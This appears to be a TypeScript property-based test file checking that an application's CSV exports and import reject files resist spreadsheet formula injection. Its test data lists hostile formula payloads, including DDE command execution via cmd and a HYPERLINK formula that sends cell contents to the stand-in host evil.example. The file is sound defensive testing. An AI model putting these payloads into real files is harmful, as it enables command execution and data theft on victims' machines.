import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterAll, describe, expect, test } from 'vitest';
import { readCell, writeCell } from '../../src/domain/imports/rows/spreadsheet-cell.ts';
import { Engine } from '../../src/engine/engine.ts';
import { testApp } from '../support/app.ts';
import { newWorkspace, testDatabase } from '../support/database.ts';

const database = await testDatabase();
const engine = await Engine.start({ database });
afterAll(() => engine.stop());
const ask = await testApp(database, engine);
const workspaceId = await newWorkspace(database);

/** What a spreadsheet would run, or what makes it take the next sign for the beginning. */
const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'] as const;
const dangerous = [
  '=1+1',
  '=cmd|" /C calc"!A0',
  '=HYPERLINK("http://evil.example?"&A1,"look")',
  '+1-1',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  "'=1",
  '";=1',
  ',=1',
  ';=1',
];
const texts = fc.string({ unit: 'binary', maxLength: 30 });
const cells = fc.oneof(
  texts,
  fc.constantFrom(...dangerous),
  fc.tuple(fc.constantFrom(...starts), texts).map(([start, text]) => `${start}${text}`),
);

describe('a cell of a file we write', () => {
  test('is quoted, and nothing that a spreadsheet runs stands first in it', () => {
    fc.assert(
      fc.property(cells, (text) => {
        const cell = writeCell(text);
        expect(cell.startsWith('"') && cell.endsWith('"')).toBe(true);
        expect(starts).not.toContain(cell[1]);
      }),
      { numRuns: 2000 },
    );
  });

  test('gives the text back through a parser, next to others, whatever separates them', () => {
    fc.assert(
      fc.property(
        fc.array(cells, { minLength: 1, maxLength: 4 }),
        fc.constantFrom(',', ';', '\t'),
        (row, delimiter) => {
          const line = row.map(writeCell).join(delimiter);
          const [read = []] = parse(line, { delimiter, relax_column_count: true }) as string[][];
          expect(read.map(readCell)).toEqual(row);
        },
      ),
      { numRuns: 2000 },
    );
  });
});

/** A row a people file would be refused for, with the text in its name. */
async function rejectsOf(names: readonly string[]): Promise<string> {
  const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
  const csv = `handle,name,email\n${names.map((name, n) => `p${n},${quoted(name)},no e-mail`).join('\n')}\n`;
  const { body } = await ask('POST', '/v1/people/import', { workspaceId }, { csv, dryRun: true });
  expect(body.rejected).toBe(names.length);
  return body.rejects as string;
}

describe('the rows that a file of people is given back', () => {
  test('are safe to open, and read as they were when they come again', async () => {
    // Space at the ends is nobody's name, and an apostrophe before a sign is how we write such a cell ourselves.
    const names = dangerous.filter((text) => !/^([\t\r\n]|'=)/.test(text));
    const rejects = await rejectsOf(names);
    for (const line of parse(rejects) as string[][])
      for (const cell of line) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
    const [header = [], ...rows] = parse(rejects) as string[][];
    const place = header.indexOf('name');
    expect(rows.map((row) => readCell(row[place] ?? ''))).toEqual(names);
    let next = 0;
    const csv = rejects.replace(/no e-mail/g, () => `p${next++}@example.com`);
    const again = await ask('POST', '/v1/people/import', { workspaceId }, { csv });
    expect(again.body).toMatchObject({ made: names.length, rejected: 0 });
    for (const [n, name] of names.entries()) {
      const { body } = await ask('GET', `/v1/people/p${n}`, { workspaceId });
      expect(body.name).toBe(name.normalize('NFC'));
    }
  });
});

describe('the rows that an import of events is given back', () => {
  test('are safe to open', async () => {
    const csv = `id,type,time,data\n${dangerous.map((text) => `"${text.replaceAll('"', '""')}",x,not a time,"${text.replaceAll('"', '""')}"`).join('\n')}\n`;
    const { body: mapping } = await ask('GET', '/v1/mappings', { workspaceId });
    const name = (mapping.items as { name: string }[]).find((one) => one.name === 'call-log')?.name;
    expect(name).toBe('call-log');
    const { app } = ask;
    const { headers } = await ask.open({ workspaceId });
    const made = await app.inject({
      method: 'POST',
      url: '/v1/imports?name=bad.csv&mapping=call-log&source=desk&dryRun=true',
      headers: { ...headers, 'content-type': 'text/csv' },
      payload: csv,
    });
    const refused = made.statusCode >= 400;
    if (refused) return expect(made.json<{ code: string }>().code).not.toBe('internal');
    const { id } = made.json<{ id: string }>();
    const file = await app.inject({ method: 'GET', url: `/v1/imports/${id}/rejects`, headers });
    expect(file.statusCode).toBe(200);
    expect(file.headers['content-disposition']).toContain('attachment');
    expect(file.headers['x-content-type-options']).toBe('nosniff');
    for (const line of parse(file.body, { relax_column_count: true }) as string[][])
      for (const cell of line) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
  });
});
